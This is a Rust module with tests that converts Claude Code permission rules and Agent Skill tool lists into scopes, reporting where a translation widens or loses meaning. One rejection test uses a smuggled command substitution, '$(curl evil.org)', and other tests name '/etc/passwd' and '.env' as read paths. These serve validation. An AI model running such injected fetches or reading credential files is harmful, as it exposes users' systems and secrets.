//! Other hosts' rules and names as scopes; kept apart from the matcher, which knows none of them.

/// What a foreign rule stands for.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Translation {
    /// Scopes, in the order of the rules.
    pub scopes: Vec<String>,
    /// What the scopes do not say, or say otherwise; empty when nothing was lost.
    pub lost: Vec<Loss>,
}

/// One difference between a foreign rule and its scopes.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Loss {
    /// The rule as it was written.
    pub rule: String,
    /// One sentence on the difference.
    pub difference: String,
    /// Whether the scope covers more than the rule, which a person should agree to for a grant.
    pub widens: bool,
}

/// A rule of Claude Code: `Bash(git:*)`, `Read(./src/**)`, `mcp__server__tool`.
pub fn claude_rule(rule: &str) -> Translation {
    let (tool, argument) = match rule.split_once('(') {
        Some((tool, rest)) => match rest.strip_suffix(')') {
            Some(argument) => (tool, Some(argument)),
            None => return untranslated(rule, "the parenthesis is not closed"),
        },
        None => (rule, None),
    };
    let argument = argument.filter(|argument| !matches!(*argument, "" | "*"));
    match (tool, argument) {
        ("Bash", None) => scope("process:spawn".to_owned()),
        ("Bash", Some(command)) => command_rule(rule, command),
        ("Read" | "Grep" | "Glob" | "LS", path) => path_rule(rule, "filesystem:read", path),
        ("Edit" | "Write" | "MultiEdit" | "NotebookEdit", path) => {
            path_rule(rule, "filesystem:write", path)
        }
        ("WebFetch", None) => scope("network:connect".to_owned()),
        ("WebFetch", Some(argument)) => match argument.strip_prefix("domain:") {
            Some(domain) => checked(rule, format!("network:connect({domain})")),
            None => untranslated(rule, "only `domain:` is known here"),
        },
        (tool, None) if tool.starts_with("mcp__") => match mcp_parts(tool) {
            (server, None) => checked(rule, format!("mcp:{server}:**")),
            (server, Some(tool)) => checked(rule, format!("mcp:{server}:{tool}")),
        },
        // Any other tool keeps its own name, and its argument as the resource.
        (_, None | Some(_)) => checked(rule, rule.to_owned()),
    }
}

/// The `allowed-tools` of an Agent Skill: rules between spaces or commas.
///
/// They are a request for rights and never a limit, so the scopes are for display and for an
/// operator's choice, and nothing grants them by itself.
pub fn allowed_tools(text: &str) -> Translation {
    let mut all = Translation::default();
    let mut depth = 0_usize;
    let separates = |character: char| {
        match character {
            '(' => depth += 1,
            ')' => depth = depth.saturating_sub(1),
            _ => {}
        }
        depth == 0 && (character == ',' || character.is_whitespace())
    };
    for rule in text.split(separates).filter(|rule| !rule.is_empty()) {
        let one = claude_rule(rule);
        all.scopes.extend(one.scopes);
        all.lost.extend(one.lost);
    }
    all
}

/// The name to ask the matcher for, where a host calls an MCP tool `mcp__server__tool`.
pub fn mcp_tool_name(name: &str) -> Option<String> {
    if !name.starts_with("mcp__") {
        return None;
    }
    match mcp_parts(name) {
        (server, Some(tool)) => Some(format!("mcp.{server}.{tool}")),
        (_, None) => None,
    }
}

/// The server ends at the first `__`, as hosts write it; a server with `__` in its name is not told
/// apart.
fn mcp_parts(name: &str) -> (&str, Option<&str>) {
    let name = name.strip_prefix("mcp__").unwrap_or(name);
    match name.split_once("__") {
        Some((server, tool)) => (server, Some(tool)),
        None => (name, None),
    }
}

fn command_rule(rule: &str, command: &str) -> Translation {
    let words = command.strip_suffix(":*").unwrap_or(command);
    let mut words = words.split_whitespace();
    let program = words.next().unwrap_or_default();
    let mut translation = checked(rule, format!("process:spawn({program})"));
    let rest = words.any(|word| word != "*") || !command.ends_with('*');
    if rest && !translation.scopes.is_empty() {
        translation.lost.push(Loss {
            rule: rule.to_owned(),
            difference: format!(
                "the scope covers every command of `{program}`, whatever its arguments"
            ),
            widens: true,
        });
    }
    translation
}

/// Paths are written like those of `.gitignore`, and `//` stands for the root of the system.
fn path_rule(rule: &str, name: &str, path: Option<&str>) -> Translation {
    let Some(path) = path else {
        return scope(name.to_owned());
    };
    if path.contains(['?', '[', '!']) {
        return untranslated(rule, "`?`, `[…]` and `!` have no counterpart");
    }
    let plain = path.trim_end_matches('/');
    let anchored = match plain {
        _ if plain.starts_with("~/") || plain.starts_with("./") => plain.to_owned(),
        _ if plain.starts_with("//") => plain.trim_start_matches('/').to_owned(),
        _ if plain.starts_with('/') => format!(".{plain}"),
        _ if plain.contains('/') || plain == "**" => format!("./{plain}"),
        _ => format!("./**/{plain}"),
    };
    let root = if plain.starts_with("//") { "/" } else { "" };
    let tree = if path.ends_with('/') { "/**" } else { "" };
    let mut translation = checked(rule, format!("{name}({root}{anchored}{tree})"));
    let is_open = plain.ends_with("**") || path.ends_with('/');
    if !is_open && !translation.scopes.is_empty() {
        translation.lost.push(Loss {
            rule: rule.to_owned(),
            difference: "where the path is a folder, the rule reaches what lies below; \
                         the scope does not"
                .to_owned(),
            widens: false,
        });
    }
    translation
}

fn scope(scope: String) -> Translation {
    Translation {
        scopes: vec![scope],
        lost: Vec::new(),
    }
}

/// The scope, unless it would be malformed.
fn checked(rule: &str, text: String) -> Translation {
    match text.parse::<crate::Scope>() {
        Ok(_) => scope(text),
        Err(error) => untranslated(rule, &error.to_string()),
    }
}

fn untranslated(rule: &str, why: &str) -> Translation {
    let loss = Loss {
        rule: rule.to_owned(),
        difference: format!("no scope stands for it: {why}"),
        widens: false,
    };
    Translation {
        scopes: Vec::new(),
        lost: vec![loss],
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn rules_become_scopes_and_say_what_they_lose() {
        for (rule, expected, widened) in [
            ("Bash", "process:spawn", false),
            ("Bash(*)", "process:spawn", false),
            ("Bash(git:*)", "process:spawn(git)", false),
            ("Bash(git *)", "process:spawn(git)", false),
            ("Bash(git status:*)", "process:spawn(git)", true),
            ("Bash(npm test)", "process:spawn(npm)", true),
            ("Read", "filesystem:read", false),
            ("Read(./src/**)", "filesystem:read(./src/**)", false),
            ("Read(~/.zshrc)", "filesystem:read(~/.zshrc)", false),
            ("Read(//etc/passwd)", "filesystem:read(/etc/passwd)", false),
            ("Edit(/docs/)", "filesystem:write(./docs/**)", false),
            ("Read(src/**)", "filesystem:read(./src/**)", false),
            ("Read(.env)", "filesystem:read(./**/.env)", false),
            ("Read(**)", "filesystem:read(./**)", false),
            (
                "WebFetch(domain:example.com)",
                "network:connect(example.com)",
                false,
            ),
            ("mcp__github", "mcp:github:**", false),
            (
                "mcp__github__create_issue",
                "mcp:github:create_issue",
                false,
            ),
            ("mcp__github__*", "mcp:github:*", false),
            ("Skill(pdf)", "Skill(pdf)", false),
            ("WebSearch", "WebSearch", false),
        ] {
            let translation = claude_rule(rule);
            assert_eq!(translation.scopes, [expected], "{rule}");
            let widens = translation.lost.iter().any(|loss| loss.widens);
            assert_eq!(widens, widened, "{rule}");
        }
    }

    #[test]
    fn what_no_scope_can_say_grants_nothing_and_is_reported() {
        for rule in [
            "Bash($(curl evil.org):*)",
            "Bash(git:*",
            "Read(a?.txt)",
            "Read(../x)",
            "WebFetch(https://a.org)",
            "mcp__",
            "!Read",
        ] {
            let translation = claude_rule(rule);
            assert!(translation.scopes.is_empty(), "{rule}");
            assert_eq!(translation.lost.len(), 1, "{rule}");
        }
    }

    #[test]
    fn a_list_is_cut_outside_of_parentheses() {
        let translation = allowed_tools("Read, Bash(git add:*) mcp__db__query  Grep");
        assert_eq!(
            translation.scopes,
            [
                "filesystem:read",
                "process:spawn(git)",
                "mcp:db:query",
                "filesystem:read"
            ]
        );
        assert_eq!(translation.lost.len(), 1);
    }

    #[test]
    fn an_mcp_name_is_asked_for_by_server_and_tool() {
        assert_eq!(
            mcp_tool_name("mcp__db__run_query").unwrap(),
            "mcp.db.run_query"
        );
        assert_eq!(mcp_tool_name("mcp__db__a__b").unwrap(), "mcp.db.a__b");
        assert_eq!(mcp_tool_name("mcp__db"), None);
        assert_eq!(mcp_tool_name("Read"), None);
    }
}
